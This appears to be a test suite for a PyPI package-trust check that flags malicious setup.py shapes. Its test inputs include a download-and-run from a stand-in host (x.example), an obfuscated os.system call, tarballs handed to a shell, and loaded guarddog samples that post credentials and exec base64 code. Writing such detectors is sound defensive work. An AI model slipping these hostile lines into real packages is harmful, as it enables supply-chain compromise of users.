/**
 * An sdist-only release's setup.py read by both readers the wheels-published check uses: the
 * whole-text shapes (lib/python-code.ts, readBuildScript) and import-time-code's data-flow reader
 * (lib/import-code.ts, readImportCode). Real build scripts first — the false-positive controls
 * (fixtures/setup-py/, fixtures/PROVENANCE.md) — then real malicious shapes cut from DataDog/guarddog's
 * rule tests (fixtures/import-code/guarddog/, fixtures/setup-py/guarddog-import-aliasing.setup.py),
 * appended to real build scripts: each appended case is said to be an edit.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { readImportCode } from '../../src/checks/lib/import-code.js';
import { readBuildScript } from '../../src/checks/lib/python-code.js';
import check, { SDIST_ONLY_SCORE } from '../../src/checks/wheels-published.js';
import { INSTALL_CODE_CAP } from '../../src/checks/lib/install-code.js';
import type { PypiFile } from '../../src/evidence/schema.js';
import { pypiEvidence } from '../support/pypi-evidence.js';
import { outcomeOf } from './check-table.js';

const real = (name: string): string => readFileSync(new URL(`../../fixtures/setup-py/${name}`, import.meta.url), 'utf8');
/** Lines `from`–`to` (1-based, inclusive) of a guarddog rule test. */
const guarddog = (file: string, from: number, to: number): string =>
  readFileSync(new URL(`../../fixtures/import-code/guarddog/${file}`, import.meta.url), 'utf8').split('\n').slice(from - 1, to).join('\n');

const REAL = ['ruamel-yaml.setup.py', 'gsutil.setup.py', 'numpy-cython-example.setup.py', 'cpython-test-cppext.setup.py', 'pykerberos.setup.py', 'jsonnet.setup.py', 'orderedmultidict.setup.py'];

const sdist: PypiFile = { filename: 'example-1.0.tar.gz', packagetype: 'sdist', size: 20_000, uploadTime: '2026-05-02T00:00:00.000Z', yanked: false, hasProvenance: null };
const sdistOnly = (setupPy: string) =>
  pypiEvidence({ pypi: { files: [sdist], sdistOnly: true, sdistBuild: { sdist: sdist.filename, unavailable: null, files: [{ path: 'setup.py', text: setupPy, truncated: false }] } } });

describe('real build scripts: neither reader flags them', () => {
  // subprocess for compilers and pkg-config (pykerberos: krb5-config; jsonnet: make through
  // Popen), exec of a version file and os.system for publishing (orderedmultidict), environment reads.
  it.each(REAL)('%s', (name) => {
    const text = real(name);
    expect(readImportCode(text).flags).toEqual([]);
    expect(readBuildScript(text).flags).toEqual([]);
    const outcome = outcomeOf(check, sdistOnly(text));
    expect(outcome.score).toBe(SDIST_ONLY_SCORE);
    expect(outcome.holdVerdict).toBeUndefined();
  });
});

describe('malicious shapes in a setup.py: the check', () => {
  const edit = (base: string, added: string): string => `${real(base)}\n${added}\n`;

  it.each<[string, string, string, string[], string[]]>([
    // exfiltrate-sensitive-data.py:49-51: the credentials file opened into a variable, the variable
    // posted. (The whole-text reader's pairing of the added network call with pykerberos' own
    // krb5-config subprocess as download-and-run is not taken: see the parasail tests below.)
    ['edit of pykerberos + guarddog\'s ~/.aws/credentials post', edit('pykerberos.setup.py', `import requests\n${guarddog('exfiltrate-sensitive-data.py', 49, 51)}`), 'sdist-hostile', ['exfiltration'], ['exfiltration']],
    // exfiltrate-sensitive-data.py:101-123 (tenserflow): user and host names posted through a
    // wrapper around urlopen — no credential path or token, so only the data-flow reader finds it.
    ['edit of the numpy example + guarddog\'s tenserflow host-data send', edit('numpy-cython-example.setup.py', `import getpass, platform, socket, json\n${guarddog('exfiltrate-sensitive-data.py', 101, 123)}\ndetect()`), 'sdist-hostile', ['exfiltration'], []],
    // exec-base64.py:57: base64-decoded code handed to a Python process (no exec/eval in the text).
    ['edit of cppext + guarddog\'s decoded `python -c`', edit('cpython-test-cppext.setup.py', `import base64, subprocess\n${guarddog('exec-base64.py', 57, 57)}`), 'sdist-suspicious', ['exec-decoded'], []],
    // exec-base64.py:49-52: the decoded data reaches exec through two variables.
    ['edit of ruamel + guarddog\'s decoded data through variables', edit('ruamel-yaml.setup.py', `import base64\n${guarddog('exec-base64.py', 49, 52)}`), 'sdist-suspicious', ['exec-decoded'], ['exec-decoded']],
    // Synthetic: the hidden `os.system` of the import-time-code docs (docs/checks.md).
    ['edit of gsutil: getattr(__import__(\'o\'+\'s\'), \'system\')', edit('gsutil.setup.py', "getattr(__import__('o'+'s'), 'system')('id')"), 'sdist-suspicious', ['dynamic-import'], []],
  ])('%s', (_name, text, messageId, flowFlags, patternFlags) => {
    const outcome = outcomeOf(check, sdistOnly(text));
    expect(outcome.messageId).toBe(messageId);
    expect(outcome.data?.flowFlags).toEqual(expect.arrayContaining(flowFlags));
    expect(outcome.data?.patternFlags).toEqual(patternFlags);
    expect(outcome.data?.flags).toEqual(expect.arrayContaining([...flowFlags, ...patternFlags]));
    expect((outcome.data?.excerpts as string[]).length).toBeGreaterThan(0);
    expect(outcome.holdVerdict).toBeDefined();
    if (messageId === 'sdist-hostile') {
      expect(outcome.score).toBe(0);
      expect(outcome.caps).toEqual([expect.objectContaining({ id: 'install-code', limit: INSTALL_CODE_CAP.limit })]);
    } else {
      expect(outcome.score).toBe(10);
      expect(outcome.caps).toBeUndefined();
    }
  });

  it('the whole-text reader alone: an exec of a version file anywhere beside a decode anywhere (orderedmultidict, edited)', () => {
    // The real script execs its version file; the edit adds the guarddog line above. The
    // data-flow reader finds the decoded `python -c`; the whole-text one pairs exec with decode.
    const outcome = outcomeOf(check, sdistOnly(edit('orderedmultidict.setup.py', `import base64, subprocess\n${guarddog('exec-base64.py', 57, 57)}`)));
    expect(outcome.data).toMatchObject({ flowFlags: ['exec-decoded'], patternFlags: ['exec-decoded'], flags: ['exec-decoded'] });
  });

  it('guarddog\'s import-aliasing dropper (a whole setup.py): aliased process functions, found by the whole-text reader only', () => {
    const text = real('guarddog-import-aliasing.setup.py');
    expect(readImportCode(text).flags).toEqual([]);
    const outcome = outcomeOf(check, sdistOnly(text));
    // Its downloader is a string written to a temporary file, run through the aliased os.system:
    // no download is followed to a process, so the verdict is held by the aliases alone.
    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: [], patternFlags: ['aliased-process'] } });
    expect(outcome.data?.flags).toEqual(['aliased-process']);
  });

  it('the whole-text exfiltration shape alone holds the verdict without the cap (it is a co-occurrence, not a flow)', () => {
    // Synthetic: a network call and a credentials path in unrelated places.
    const text = edit('numpy-cython-example.setup.py', 'import urllib.request\nurllib.request.urlretrieve("https://x.example/src.tar.gz", "src.tar.gz")\nNOTE = "never reads ~/.pypirc"');
    const outcome = outcomeOf(check, sdistOnly(text));
    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { patternFlags: ['exfiltration'], flowFlags: [] } });
    expect(outcome.caps).toBeUndefined();
  });
});

describe('a setup.py that downloads a build input (python-parasail 1.3.3, fixtures/PROVENANCE.md)', () => {
  // It urlretrieves GNU autotools' source tarballs, unpacks them in Python and runs ./configure and
  // make in the unpacked directories through subprocess.
  const PARASAIL = real('parasail.setup.py');

  it('is not held: the download is unpacked and built, never run', () => {
    expect(readImportCode(PARASAIL).flags).toEqual([]);
    // The whole-text reader still sees a network call beside a process; the check leaves that shape to the data flow.
    expect(readBuildScript(PARASAIL).flags).toEqual(['download-and-run']);
    const outcome = outcomeOf(check, sdistOnly(PARASAIL));
    expect(outcome.score).toBe(SDIST_ONLY_SCORE);
    expect(outcome.messageId).toBe('sdist-commands');
    expect(outcome.data?.commands).toEqual(['install', 'bdist_wheel']);
    expect(outcome.holdVerdict).toBeUndefined();
  });

  it('edited to start the downloaded tarball itself: held, found by following the saved path', () => {
    expect(PARASAIL).toContain('            untar(tarball)\n');
    const text = PARASAIL.replace('            untar(tarball)\n', '            subprocess.call([os.path.abspath(tarball)])\n');
    const outcome = outcomeOf(check, sdistOnly(text));
    expect(outcome).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], patternFlags: [], flags: ['download-and-run'] } });
    expect(outcome.holdVerdict).toBeDefined();
  });

  // parasail's urlretrieve line replaced by the other ways a download is saved: edits.
  const savedBy = (lines: string[], run: string): string => {
    const download = '                    name,hdrs = urlretrieve(url, tarball)\n';
    expect(PARASAIL).toContain(download);
    expect(PARASAIL).toContain('            untar(tarball)\n');
    return PARASAIL.replace(download, lines.map((l) => `                    ${l}\n`).join('')).replace('            untar(tarball)\n', `            ${run}\n`);
  };
  it.each([
    ['Path.write_bytes', ['pathlib.Path(tarball).write_bytes(requests.get(url).content)']],
    ['wget.download', ['wget.download(url, out=tarball)']],
    ['a streamed response written chunk by chunk', ['r = requests.get(url, stream=True)', "with open(tarball, 'wb') as f:", '    for chunk in r.iter_content(chunk_size=8192):', '        f.write(chunk)']],
  ])('edited to save the tarball by %s: unpacked, not held; handed to a shell, held', (_name, lines) => {
    const unpacked = outcomeOf(check, sdistOnly(savedBy(lines, 'untar(tarball)')));
    expect(unpacked.messageId).toBe('sdist-commands');
    expect(unpacked.holdVerdict).toBeUndefined();
    const run = outcomeOf(check, sdistOnly(savedBy(lines, 'subprocess.call(["sh", tarball])')));
    expect(run).toMatchObject({ score: 10, messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], patternFlags: [], flags: ['download-and-run'] } });
    expect(run.holdVerdict).toBeDefined();
  });

  it('edit of gsutil: a binary downloaded and run (the whole-text reading\'s own test case) is still held', () => {
    const text = `${real('gsutil.setup.py')}\nimport urllib.request, subprocess\nurllib.request.urlretrieve("http://x.example/a", "/tmp/a")\nsubprocess.call(["/tmp/a"])\n`;
    expect(outcomeOf(check, sdistOnly(text))).toMatchObject({ messageId: 'sdist-suspicious', data: { flowFlags: ['download-and-run'], flags: ['download-and-run'] } });
  });
});

describe('aliased process functions (readBuildScript)', () => {
  it.each([
    ['from os import system as _s', true],
    ['from subprocess import (\n    Popen as P,\n    call,\n)', true],
    ['from subprocess import (  # tools\n    PIPE,  # pipes\n    check_call as cc,\n)', true],
    ['from os import path, \\\n    system as _s', true],
    ['from subprocess import (\n    Popen,\n    PIPE,\n)\nrun = 1 as_ = 2', false],
    ['from os import path\nsystem as _s = 1', false],
    ['from os import path, system as s', true],
    ['from subprocess import (PIPE, Popen as P)', true],
    ['from sys import executable as _py', true],
    ['from builtins import exec as run', true],
    ['from os import system', false],
    ['from os import environ as env', false],
    ['from subprocess import Popen, PIPE', false],
  ] as const)('%s → %s', (line, flagged) => {
    expect(readBuildScript(`${line}\n`).flags.includes('aliased-process')).toBe(flagged);
  });

  it('stays linear on a long import line', () => {
    expect(readBuildScript(`from os import ${'a , '.repeat(50_000)}${' '.repeat(50_000)}`).flags).toEqual([]);
  });
});
